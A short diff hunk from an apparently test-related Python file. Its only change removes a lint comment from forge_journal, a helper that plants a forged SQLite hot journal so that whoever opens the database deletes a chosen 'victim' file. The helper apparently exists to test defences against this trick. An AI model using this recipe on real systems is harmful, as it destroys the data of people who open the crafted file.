@@ -140,7 +140,7 @@ BAD_DATA: dict[str, str] = {
 def forge_journal(path: Path, victim: Path) -> Path:
     """Lay beside `path` a hot journal whose super-journal is a file to be deleted by whoever opens `path`."""
     name = os.fsencode(victim)
-    check = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF  # noqa: PLR2004 - signed bytes
+    check = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
     magic = bytes.fromhex("d9d505f920a163d7")
     header = magic + struct.pack(">IIIII", 0, 1234, path.stat().st_size // 4096, 512, 4096)
     tail = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">II", len(name), check) + magic
